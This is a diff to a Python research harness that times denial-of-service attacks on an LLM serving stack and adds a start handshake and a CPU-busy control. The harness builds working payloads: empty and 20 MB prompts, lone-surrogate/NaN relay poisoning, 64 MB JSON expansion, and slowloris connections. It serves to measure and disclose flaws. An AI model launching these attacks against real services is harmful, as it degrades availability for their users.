@@ -55,6 +55,7 @@ MB = 1_000_000
 JSON_TYPE = {"content-type": "application/json"}
 INTERNAL_TOKEN_ENV = "VILASERVE_INTERNAL_TOKEN"
 EXCERPT = 140  # characters of an answer kept in the results
+READY, GO = "READY", "GO"  # the attacking process's handshake (see run_attacker)
 
 
 # --- the stack ------------------------------------------------------------------------------
@@ -499,10 +500,14 @@ def result_stem(stem: str, nice: int) -> str:
     return f"{stem}_nice{nice}" if nice else stem
 
 
-def run_attacker(target: Target, attack: Attack, nice: int = 0) -> dict[str, Any]:
-    """The attack in its own process; `nice` > 0 runs it at a lower CPU priority (what a local
-    attacker's CPU use costs the users is then mostly out of the figures, what the service spends
-    on the attack stays in)."""
+def run_attacker(
+    target: Target, attack: Attack, nice: int = 0
+) -> tuple[dict[str, Any], float, float]:
+    """The attack in its own process; `nice` > 0 runs it at a lower CPU priority. The process
+    starts, imports and builds its payloads first, then says READY and waits: the window (the
+    returned start and end, time.monotonic()) opens when it is told to go. Starting a Python
+    process and building 80 MB of JSON is the attacker's own CPU use, and on a 2-core host any
+    such burst slows every user (the "control" window measures it), whatever the service does."""
     command = [
         sys.executable,
         str(Path(__file__).resolve()),
@@ -511,21 +516,32 @@ def run_attacker(target: Target, attack: Attack, nice: int = 0) -> dict[str, Any
         f"{attack.seconds:g}",
         *attack.args,
     ]
+    process = subprocess.Popen(
+        command,
+        env={**os.environ, **target.env()},
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        preexec_fn=(lambda: os.nice(nice)) if nice else None,
+    )
+    assert process.stdin is not None and process.stdout is not None
+    said = process.stdout.readline()
+    started = time.monotonic()
     try:
-        done = subprocess.run(
-            command,
-            env={**os.environ, **target.env()},
-            capture_output=True,
-            text=True,
-            timeout=attack.seconds + 600,
-            preexec_fn=(lambda: os.nice(nice)) if nice else None,
-        )
+        if said.strip() != READY:
+            out, err = process.communicate(timeout=60)
+            return {"error": f"no {READY}: {said}{out}{err[-1500:]}"}, started, time.monotonic()
+        out, err = process.communicate(GO + "\n", timeout=attack.seconds + 600)
     except subprocess.TimeoutExpired:
-        return {"error": "the attacking process did not finish"}
+        process.kill()
+        process.communicate()
+        return {"error": "the attacking process did not finish"}, started, time.monotonic()
+    ended = time.monotonic()
     try:
-        return dict(json.loads(done.stdout))
+        return dict(json.loads(out)), started, ended
     except ValueError:
-        return {"error": f"exit {done.returncode}: {done.stderr[-1500:]}"}
+        return {"error": f"exit {process.returncode}: {err[-1500:]}"}, started, ended
 
 
 def kill_worker(stack: ServeStack) -> dict[str, Any]:
@@ -600,12 +616,12 @@ class Campaign:
                 say(f"attack: {attack.name}")
                 self.stack.reset_peaks()
                 cpu = self.stack.cpu_s()
-                start = time.monotonic()
                 if attack.kind == "kill_worker":
+                    start = time.monotonic()
                     attacker = kill_worker(self.stack)
+                    end = time.monotonic()
                 else:
-                    attacker = run_attacker(target, attack, self.attacker_nice)
-                end = time.monotonic()
+                    attacker, start, end = run_attacker(target, attack, self.attacker_nice)
                 self.windows[attack.name] = (start, end)
                 self.results[attack.name] = {
                     "attacker_got": attacker,
@@ -803,14 +819,15 @@ def _rounds(seconds: float, every_s: float) -> Iterator[int]:
         time.sleep(max(0.0, started + n * every_s - time.monotonic()))
 
 
-def empty_prompt(t: Target, seconds: float) -> dict[str, Any]:
+def empty_prompt(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
     """Finding 1: `"prompt": ""` (and `["ok", ""]`) to the API, `""` to the worker."""
     sends = Sends()
+    api = json.dumps({"model": t.model, "prompt": "", "max_tokens": 2}).encode()
+    api_list = json.dumps({"model": t.model, "prompt": ["ok", ""], "max_tokens": 2}).encode()
+    worker = json.dumps({"prompt": "", "max_new_tokens": 2}).encode()
+    ready()
     with attacker_client(60) as client:
         key, token, anyone = (_poster(client, h) for h in (t.key_header, t.token_header, {}))
-        api = json.dumps({"model": t.model, "prompt": "", "max_tokens": 2}).encode()
-        api_list = json.dumps({"model": t.model, "prompt": ["ok", ""], "max_tokens": 2}).encode()
-        worker = json.dumps({"prompt": "", "max_new_tokens": 2}).encode()
         for _ in _rounds(seconds, 0.5):
             sends.send("API /v1/completions prompt ''", key, t.api + "/v1/completions", api)
             sends.send(
@@ -837,7 +854,7 @@ def empty_prompt(t: Target, seconds: float) -> dict[str, Any]:
     return sends.summary()
 
 
-def relay_poison(t: Target, seconds: float) -> dict[str, Any]:
+def relay_poison(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
     """Finding 2: a lone surrogate and NaN to the controller's relay, once a second; without the
     token (a local process) and with it (an insider such as TinyChat's web server)."""
     sends = Sends()
@@ -848,6 +865,7 @@ def relay_poison(t: Target, seconds: float) -> dict[str, Any]:
     assert b"\\ud800" in lone and b"NaN" in nan
     relay = t.controller + "/worker_generate_stream"
     listed = Counter()
+    ready()
     with attacker_client(60) as client:
         token, anyone = _poster(client, t.token_header), _poster(client, {})
         for _ in _rounds(seconds, 1.0):
@@ -861,7 +879,7 @@ def relay_poison(t: Target, seconds: float) -> dict[str, Any]:
     }
 
 
-def huge_prompt(t: Target, seconds: float) -> dict[str, Any]:
+def huge_prompt(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
     """Finding 3: a 20 MB prompt to the worker (generate and /count_token, the latter with a
     /refresh_all_workers at the same time), a 3.6 MB one (within the body limit, beyond the
     characters), and 20 MB to the API."""
@@ -877,6 +895,7 @@ def huge_prompt(t: Target, seconds: float) -> dict[str, Any]:
         ).encode(),
     }
     listed = Counter()
+    ready()
     with attacker_client(120) as client, ThreadPoolExecutor(2) as pool:
         key, token, anyone = (_poster(client, h) for h in (t.key_header, t.token_header, {}))
         w = t.worker
@@ -943,7 +962,7 @@ def expanding(head: bytes, size: int, tail: bytes = b"") -> bytes:
     return body + b" " * (size - len(body))
 
 
-def json_expansion(t: Target, seconds: float) -> dict[str, Any]:
+def json_expansion(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
     """Finding 5: 64 MB of `{}` to the worker and to the controller's relay, and four
     authenticated 32 MB API requests at once; each without pictures (the size limit for text
     stops it) and naming a picture (`"images": []`, an `image_url` part) so that only the
@@ -960,6 +979,15 @@ def json_expansion(t: Target, seconds: float) -> dict[str, Any]:
         " + an image_url part": [{"role": "user", "content": [{"type": "text", "text": "hi"},
                                                                picture]}],
     }  # fmt: skip
+    chat_bodies = {
+        variant: expanding(
+            json.dumps({"model": t.model, "max_tokens": 2, "messages": messages}).encode()[:-1]
+            + b', "x": ',
+            32 * MB,
+        )
+        for variant, messages in chats.items()
+    }
+    ready()
     with attacker_client(300) as client, ThreadPoolExecutor(4) as pool:
         token, anyone = _poster(client, t.token_header), _poster(client, {})
         key = _poster(client, t.key_header)
@@ -979,9 +1007,7 @@ def json_expansion(t: Target, seconds: float) -> dict[str, Any]:
                     url,
                     pictures_first,
                 )
-            for variant, messages in chats.items():
-                chat = {"model": t.model, "max_tokens": 2, "messages": messages}
-                body = expanding(json.dumps(chat).encode()[:-1] + b', "x": ', 32 * MB)
+            for variant, body in chat_bodies.items():
                 what = f"API /v1/chat/completions 32 MB of {{}}{variant} (4 at once)"
                 four = [
                     pool.submit(sends.send, what, key, t.api + "/v1/chat/completions", body)
@@ -1064,20 +1090,44 @@ async def _slowloris(url: str, connections: int, seconds: float, every_s: float)
     }
 
 
-def slow_headers(t: Target, seconds: float, service: str, connections: int) -> dict[str, Any]:
+def slow_headers(
+    t: Target, seconds: float, ready: Callable[[], None], service: str, connections: int
+) -> dict[str, Any]:
     """Finding 8: connections that trickle their request heads, against one service."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     with contextlib.suppress(ValueError, OSError):
         resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + 256)), hard))
     url = {"api": t.api, "worker": t.worker, "controller": t.controller}[service]
+    ready()
     return asyncio.run(_slowloris(url, connections, seconds, every_s=2.0))
+
+
+def busy_process(t: Target, seconds: float, ready: Callable[[], None]) -> dict[str, Any]:
+    """The control: no request at all, one process keeping one core busy for `seconds`. On a
+    2-core host the worker's two compute threads then share a core with it, and each of the
+    hundreds of thread barriers in a token waits for the one that lost its core: what any
+    burst of CPU on the host (an attacker's own, a build, a login) costs users, whatever the
+    service does."""
+    ready()
+    started = time.monotonic()
+    spins = 0
+    while time.monotonic() - started < seconds:
+        spins += 1
+    return {"busy_s": round(time.monotonic() - started, 2), "spins": spins}
 
 
 def main() -> None:
     parser = argparse.ArgumentParser(description="one attack; prints a JSON record")
     parser.add_argument(
         "attack",
-        choices=["empty_prompt", "relay_poison", "huge_prompt", "json_expansion", "slow_headers"],
+        choices=[
+            "empty_prompt",
+            "relay_poison",
+            "huge_prompt",
+            "json_expansion",
+            "slow_headers",
+            "busy_process",
+        ],
     )
     parser.add_argument("--seconds", type=float, default=20.0)
     parser.add_argument("--service", default="api", choices=["api", "worker", "controller"])
@@ -1085,10 +1135,19 @@ def main() -> None:
     args = parser.parse_args()
     t = Target.from_env()
     started = time.monotonic()
+
+    def ready() -> None:
+        """Payloads built: say so, and wait for the window to open (run_attacker)."""
+        nonlocal started
+        print(READY, flush=True)
+        if sys.stdin.readline().strip() != GO:
+            sys.exit("not told to go")
+        started = time.monotonic()
+
     if args.attack == "slow_headers":
-        got = slow_headers(t, args.seconds, args.service, args.connections)
+        got = slow_headers(t, args.seconds, ready, args.service, args.connections)
     else:
-        got = globals()[args.attack](t, args.seconds)
+        got = globals()[args.attack](t, args.seconds, ready)
     got["attack_s"] = round(time.monotonic() - started, 1)
     print(json.dumps(got))
 
